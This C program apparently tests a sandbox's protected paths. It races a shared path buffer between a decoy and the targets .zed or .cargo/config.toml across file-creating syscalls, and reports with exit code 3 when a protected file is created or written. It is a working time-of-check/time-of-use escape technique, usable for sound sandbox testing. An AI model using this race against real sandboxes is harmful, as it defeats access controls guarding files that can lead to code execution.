// Tries to have a protected name made by a path that another thread changes between the look at a call and the call.
// usage: raced KIND ROUNDS; ends early, with 3, once `.zed` or `.cargo/config.toml` is there, or holds something.
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static _Alignas(8) char path[64];
static uint64_t decoy, aim;
static volatile int over, seen;

static void *flip(void *unused) {
    volatile uint64_t *first = (volatile uint64_t *)path;
    while (!over) {
        *first = decoy;
        for (volatile int i = 0; i < 200; i++) {}
        *first = aim;
        for (volatile int i = 0; i < 200; i++) {}
    }
    return unused;
}

static int is_there(void) {
    if (!access(".cargo/config.toml", F_OK)) seen = 1;
    return seen;
}

static void *rename_back_and_forth(void *unused) {
    while (!over && !seen) {
        rename("x", ".cargo");
        if (!is_there()) rename(".cargo", "x");
    }
    return unused;
}

static int through(void) {
    struct stat found;
    if (lstat(".zed", &found)) return 0;
    return !S_ISREG(found.st_mode) || found.st_size > 0 || access("kept", F_OK);
}

static void touch(const char *name) { close(open(name, O_CREAT | O_WRONLY, 0600)); }

static void set(const char *decoy_text, const char *aim_text) {
    memset(path, 0, sizeof path);
    strcpy(path, decoy_text);
    memcpy(&decoy, path, 8);
    memcpy(&aim, path, 8);
    memcpy(&aim, aim_text, strlen(aim_text) + 1 < 8 ? strlen(aim_text) + 1 : 8);
}

int main(int count, char **words) {
    if (count < 3) return 2;
    const char *kind = words[1];
    int rounds = atoi(words[2]);
    pthread_t other;
    touch("m");
    // The name is there already, and is to stay empty.
    if (!strncmp(kind, "write", 5)) touch("aaaa");
    if (!strcmp(kind, "order")) {
        mkdir("x", 0755);
        int folder = open("x", O_RDONLY | O_DIRECTORY);
        pthread_create(&other, 0, rename_back_and_forth, 0);
        for (int i = 0; i < rounds && !seen; i++) {
            close(openat(folder, "config.toml", O_CREAT | O_WRONLY, 0600));
            if (!is_there()) unlinkat(folder, "config.toml", 0);
        }
        over = 1;
        pthread_join(other, 0);
        return seen ? 3 : 0;
    }
    set(strstr(kind, "null") ? "/dev/null" : !strcmp(kind, "stdout") ? "/dev/fd/1" : "aaaa", ".zed");
    pthread_create(&other, 0, flip, 0);
    for (int i = 0; i < rounds && !through(); i++) {
        if (!strcmp(kind, "mkdir")) { mkdir(path, 0755); rmdir("aaaa"); }
        else if (!strcmp(kind, "mknod")) { mknod(path, S_IFIFO | 0600, 0); unlink("aaaa"); }
        else if (!strcmp(kind, "symlink")) { if (symlink("m", path)) {} unlink("aaaa"); }
        else if (!strcmp(kind, "link")) { if (link("m", path)) {} unlink("aaaa"); }
        else if (!strcmp(kind, "rename")) { touch("s"); rename("s", path); }
        else if (!strncmp(kind, "write", 5)) { int f = open(path, O_WRONLY); if (write(f, "evil", 4)) {} close(f); }
        else if (!strcmp(kind, "creat")) close(creat(path, 0600));
        else close(open(path, O_CREAT | O_WRONLY, 0600));
    }
    over = 1;
    pthread_join(other, 0);
    return through() ? 3 : 0;
}
